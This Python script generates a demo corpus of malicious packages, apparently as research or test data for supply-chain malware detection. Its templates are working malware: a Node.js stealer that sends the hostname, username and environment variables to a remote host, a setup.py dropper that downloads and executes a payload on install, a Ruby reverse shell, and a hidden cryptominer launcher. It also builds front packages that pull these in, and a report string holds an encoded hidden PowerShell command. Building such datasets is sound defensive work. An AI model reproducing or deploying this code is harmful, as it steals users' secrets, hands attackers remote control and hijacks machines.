#!/usr/bin/env python3
"""Regenerates the demo corpus under demo/. Output is byte-stable."""
import gzip
import io
import json
import random
import shutil
import tarfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent
RNG = random.Random(20230809)

SOURCES = {
    "acad-a": "academia",
    "ind-b": "industry",
    "ind-c": "industry",
}

# Four malicious code bases; variants differ by a couple of identifiers.
JS_STEALER = """const os = require('os');
const https = require('https');
const {VAR}pkg = require('./package.json');
function collect() {
  const data = {
    host: os.hostname(),
    user: os.userInfo().username,
    home: os.homedir(),
    env: process.env,
    cwd: process.cwd(),
    name: {VAR}pkg.name,
  };
  return JSON.stringify(data);
}
function send(body) {
  const req = https.request({
    hostname: '{HOST}',
    port: 443,
    path: '/collect/{PATH}',
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': body.length },
  }, (res) => { res.on('data', () => {}); });
  req.on('error', () => {});
  req.write(body);
  req.end();
}
// run once after install
send(collect());
"""

PY_DROPPER = """import os
import sys
import base64
import tempfile
import urllib.request
from setuptools import setup
from setuptools.command.install import install

PAYLOAD_URL = "http://{HOST}/{PATH}/payload.bin"


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "{VAR}update.exe")
        try:
            data = urllib.request.urlopen(PAYLOAD_URL, timeout=10).read()
            with open(target, "wb") as handle:
                handle.write(base64.b64decode(data))
            if sys.platform.startswith("win"):
                os.startfile(target)
            else:
                os.chmod(target, 0o755)
                os.system(target + " &")
        except Exception:
            pass


setup(
    name="{NAME}",
    version="{VERSION}",
    packages=["{MODULE}"],
    install_requires={DEPS},
    cmdclass={"install": PostInstall},
)
"""

RB_SHELL = """require 'socket'
require 'open3'

module {MODULE}
  HOST = '{HOST}'
  PORT = {PORT}

  def self.connect
    sock = TCPSocket.new(HOST, PORT)
    while (line = sock.gets)
      out, err, _status = Open3.capture3(line.strip)
      sock.write(out)
      sock.write(err)
    end
  rescue StandardError
    sleep 30
    retry
  ensure
    sock&.close
  end
end

Thread.new { {MODULE}.connect }
"""

JS_MINER = """const {{ spawn }} = require('child_process');
const path = require('path');
const fs = require('fs');
const pool = 'stratum+tcp://{HOST}:3333';
const wallet = '{WALLET}';
function binary() {
  const dir = path.join(__dirname, 'bin');
  const file = path.join(dir, process.platform === 'win32' ? 'xmrig.exe' : 'xmrig');
  if (!fs.existsSync(file)) return null;
  fs.chmodSync(file, 0o755);
  return file;
}
function start() {
  const bin = binary();
  if (!bin) return;
  const child = spawn(bin, ['-o', pool, '-u', wallet, '--donate-level', '1', '--background'], {
    detached: true,
    stdio: 'ignore',
  });
  child.unref();
}
start();
"""

FRONT_JS = """// utility helpers
const {VAR} = require('{TARGET}');
module.exports = function format(value) {
  return String(value).trim();
};
"""

WORDS = ("alpha beta gamma delta parse render format value items result index count total "
         "buffer stream client server config option handler request response cache store "
         "queue event timer logger reader writer matrix vector table column record field").split()


def ident():
    return RNG.choice(WORDS) + RNG.choice(WORDS).capitalize()


def benign_js():
    lines = ["'use strict';"]
    for _ in range(RNG.randint(3, 7)):
        fn, a, b = ident(), ident(), ident()
        lines.append(f"function {fn}({a}, {b}) {{")
        for _ in range(RNG.randint(2, 6)):
            lines.append(f"  const {ident()} = {a}.{RNG.choice(WORDS)}({b}, {RNG.randint(0, 99)});")
        lines.append(f"  return {a} + {b};")
        lines.append("}")
        lines.append(f"module.exports.{fn} = {fn};")
    return "\n".join(lines) + "\n"


def benign_py():
    lines = ["import math", ""]
    for _ in range(RNG.randint(3, 7)):
        fn, a = ident().lower(), ident().lower()
        lines.append(f"def {fn}({a}, scale={RNG.randint(1, 9)}):")
        for _ in range(RNG.randint(2, 5)):
            lines.append(f"    {ident().lower()} = math.{RNG.choice(['sqrt', 'floor', 'ceil', 'log1p'])}({a}) * scale")
        lines.append(f"    return {a}")
        lines.append("")
    return "\n".join(lines)


def benign_rb():
    mod = ident()
    lines = [f"module {mod}"]
    for _ in range(RNG.randint(3, 6)):
        fn = ident().lower()
        lines.append(f"  def self.{fn}(items)")
        lines.append(f"    items.map {{ |x| x * {RNG.randint(2, 9)} }}.select {{ |y| y > {RNG.randint(0, 50)} }}")
        lines.append("  end")
    lines.append("end")
    return "\n".join(lines) + "\n"


def tar_bytes(files):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name in sorted(files):
            data = files[name].encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gz(data):
    return gzip.compress(data, mtime=0)


def npm_archive(name, version, code, deps, extra=None):
    pkg = {"name": name, "version": version, "main": "index.js",
           "dependencies": {d: "^1.0.0" for d in deps}}
    files = {"package/package.json": json.dumps(pkg, indent=2) + "\n", "package/index.js": code}
    for k, v in (extra or {}).items():
        files["package/" + k] = v
    return ".tgz", gz(tar_bytes(files))


def pypi_archive(name, version, setup_code, module_code, deps):
    base = f"{name}-{version}/"
    files = {
        base + "setup.py": setup_code,
        base + name.replace("-", "_") + "/__init__.py": module_code,
        base + "requirements.txt": "".join(d + "\n" for d in deps),
    }
    return ".tar.gz", gz(tar_bytes(files))


def gem_archive(name, version, code, deps):
    data = gz(tar_bytes({f"lib/{name}.rb": code}))
    meta_lines = ["--- !ruby/object:Gem::Specification", f"name: {name}", "version: !ruby/object:Gem::Version",
                  f"  version: {version}", "dependencies:"]
    for d in deps:
        meta_lines += ["- !ruby/object:Gem::Dependency", f"  name: {d}", "  type: :runtime"]
    meta = gz(("\n".join(meta_lines) + "\n").encode())
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for n, payload in (("metadata.gz", meta), ("data.tar.gz", data)):
            info = tarfile.TarInfo(n)
            info.size = len(payload)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(payload))
    return ".gem", buf.getvalue()


def month_time(month, day):
    return f"2023-{month:02d}-{day:02d}T00:00:00Z"


def main():
    for sub in ("catalogs", "archives", "reports", "benign"):
        shutil.rmtree(ROOT / sub, ignore_errors=True)
        (ROOT / sub).mkdir(parents=True)
    (ROOT / "benign" / "archives").mkdir()

    packages = []  # (ecosystem, name, version, files-tuple, deps, release, description)

    hosts = ["collect-api.example-cdn.com", "telemetry.npm-stats.net", "sink.data-relay.io", "upd.collector.org"]
    for i in range(5):
        name = f"node-env-helper{i}" if i else "node-env-helper"
        code = JS_STEALER.replace("{HOST}", hosts[i % len(hosts)]).replace("{PATH}", f"v{i}").replace(
            "{VAR}", "" if i % 2 == 0 else "local_")
        packages.append(("npm", name, "1.0.%d" % i, npm_archive(name, "1.0.%d" % i, code, []), [],
                         month_time(8, 9 + 2 * i), "environment helpers"))

    for i in range(4):
        name = f"requests-toolbelt{i}"
        module = name.replace("-", "_")
        setup = (PY_DROPPER.replace("{HOST}", f"45.13.{i}.77").replace("{PATH}", f"d{i}")
                 .replace("{VAR}", "win_" if i % 2 else "").replace("{NAME}", name)
                 .replace("{VERSION}", "0.%d.0" % (i + 1)).replace("{MODULE}", module)
                 .replace("{DEPS}", '["requests"]'))
        packages.append(("pypi", name, "0.%d.0" % (i + 1),
                         pypi_archive(name, "0.%d.0" % (i + 1), setup, "VERSION = '0.1'\n", ["requests"]),
                         ["requests"], month_time(9, 1 + 3 * i) if i != 3 else None,
                         "HTTP helper utilities" if i < 2 else "HTTP helpers"))

    for i in range(3):
        name = f"rails-assets-sync{i}"
        code = RB_SHELL.replace("{MODULE}", f"AssetSync{i}").replace("{HOST}", f"10.0.{i}.5").replace(
            "{PORT}", str(4444 + i))
        packages.append(("rubygems", name, "2.0.%d" % i, gem_archive(name, "2.0.%d" % i, code, []), [],
                         month_time(10, 5 + i), "asset synchronisation"))

    for i in range(4):
        name = f"color-logger-pro{i}"
        code = (JS_MINER.replace("{{", "{").replace("}}", "}").replace("{HOST}", f"pool{i}.minexmr.example")
                .replace("{WALLET}", "4" + "A" * 10 + str(i)))
        packages.append(("npm", name, "3.1.%d" % i, npm_archive(name, "3.1.%d" % i, code, []), [],
                         month_time(11, 2 + 2 * i), "colorful logger"))

    # Dependency fronts: innocuous code that pulls in a malicious package.
    fronts = [("fmt-string-utils", "node-env-helper", True), ("str-pad-kit", "color-logger-pro0", False),
              ("text-trim-lite", "node-env-helper2", True)]
    for name, target, declare in fronts:
        code = FRONT_JS.replace("{VAR}", "helper").replace("{TARGET}", target)
        deps = [target] if declare else []
        packages.append(("npm", name, "1.2.0", npm_archive(name, "1.2.0", code, deps), deps,
                         month_time(12, 1), "string formatting"))

    # A package whose archive has no code files, and one whose code only
    # mentions a malicious name inside a comment.
    packages.append(("npm", "empty-shell-pkg", "0.0.1",
                     (".tgz", gz(tar_bytes({"package/package.json": '{"name":"empty-shell-pkg","version":"0.0.1"}\n',
                                            "package/README.md": "nothing here\n"}))), [], month_time(7, 20), None))
    packages.append(("npm", "quiet-docs", "1.0.0",
                     npm_archive("quiet-docs", "1.0.0", "// require('node-env-helper1') was removed\nmodule.exports = 1;\n",
                                 []), [], month_time(7, 21), "docs"))

    # Assign to sources with planted duplicates and unavailable copies.
    catalogs = {s: [] for s in SOURCES}
    counter = {s: 0 for s in SOURCES}

    def add(source, pkg, available=True):
        eco, name, version, (ext, blob), deps, release, desc = pkg
        counter[source] += 1
        rid = f"{source}-{counter[source]:03d}"
        rec = {"record_id": rid, "ecosystem": eco, "name": name, "version": version, "source_id": source,
               "source_category": SOURCES[source], "availability": "available" if available else "unavailable"}
        if available:
            rel = f"{source}/{eco}/{name}-{version}{ext}"
            path = ROOT / "archives" / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(blob)
            rec["archive_path"] = rel
        rec["release_time"] = release
        rec["detection_time"] = None if release is None else release.replace("T00", "T12")
        rec["description"] = desc
        rec["declared_deps"] = [{"name": d, "constraint": ">=1.0"} for d in deps]
        catalogs[source].append(rec)

    for idx, pkg in enumerate(packages):
        primary = list(SOURCES)[idx % 3]
        add(primary, pkg)
        if idx % 4 == 0:
            add(list(SOURCES)[(idx + 1) % 3], pkg, available=False)
        if idx % 7 == 0:
            add(list(SOURCES)[(idx + 2) % 3], pkg, available=idx % 2 == 0)

    # Records only some sources know about, without any archive.
    for i in range(3):
        pkg = ("pypi", f"lost-package{i}", "1.0.0", (".tar.gz", b""), [], month_time(6, 10 + i), None)
        add("ind-c", pkg, available=False)

    for source, rows in catalogs.items():
        with open(ROOT / "catalogs" / f"{source}.jsonl", "w", newline="\n") as out:
            for r in rows:
                out.write(json.dumps(r, sort_keys=False) + "\n")

    reports = [
        {"id": "r-001", "url": "https://research.example.org/npm-stealers", "category": "technical_community",
         "date": "2023-08-25",
         "packages": [{"ecosystem": "npm", "name": "node-env-helper"}, {"ecosystem": "npm", "name": "node-env-helper1"},
                      {"name": "fmt-string-utils"}],
         "text": "The packages exfiltrate to https://collect-api.example-cdn.com/collect/v0 and "
                 "http://telemetry.npm-stats.net/collect/v1. A second stage lives at 185.62.190.12; "
                 "the address 300.1.2.3 in the sample is a decoy. node-env-helper2 was seen later."},
        {"id": "r-002", "url": "https://news.example.com/pypi-droppers", "category": "news", "date": "2023-09-20",
         "packages": [{"ecosystem": "pypi", "name": "requests-toolbelt0"}, {"ecosystem": "npm", "name": "color-logger-pro1"}],
         "text": "Payload served from http://45.13.0.77/d0/payload.bin and http://45.13.0.77/d0/payload.bin again.\n"
                 "powershell.exe -NoP -W hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n"
                 "Contact 45.13.1.77 for the second host."},
        {"id": "r-003", "url": "https://blog.example.net/gems", "category": "individual", "date": "2023-10-30",
         "packages": [{"ecosystem": "rubygems", "name": "rails-assets-sync0"},
                      {"ecosystem": "rubygems", "name": "rails-assets-sync1"}, {"name": "not-in-corpus"}],
         "text": "Reverse shells to 10.0.0.5 and 10.0.1.5, callback http://upd.collector.org/x."},
    ]
    for r in reports:
        (ROOT / "reports" / f"{r['id']}.json").write_text(json.dumps(r, indent=2) + "\n")

    benign = []
    for i in range(40):
        eco = ("npm", "pypi", "rubygems")[i % 3]
        name = f"benign-{eco}-{i:02d}"
        version = "1.%d.0" % (i % 5)
        if eco == "npm":
            ext, blob = npm_archive(name, version, benign_js(), [], {"lib/extra.js": benign_js()})
        elif eco == "pypi":
            ext, blob = pypi_archive(name, version, "from setuptools import setup\nsetup()\n", benign_py(), [])
        else:
            ext, blob = gem_archive(name, version, benign_rb(), [])
        rel = f"{eco}/{name}-{version}{ext}"
        path = ROOT / "benign" / "archives" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(blob)
        benign.append({"record_id": f"benign-{i:03d}", "ecosystem": eco, "name": name, "version": version,
                       "source_id": "benign", "source_category": "industry", "availability": "available",
                       "archive_path": rel, "release_time": month_time(1 + i % 12, 1 + i % 27),
                       "description": "legitimate package", "declared_deps": []})
    with open(ROOT / "benign" / "catalog.jsonl", "w", newline="\n") as out:
        for r in benign:
            out.write(json.dumps(r) + "\n")


if __name__ == "__main__":
    main()
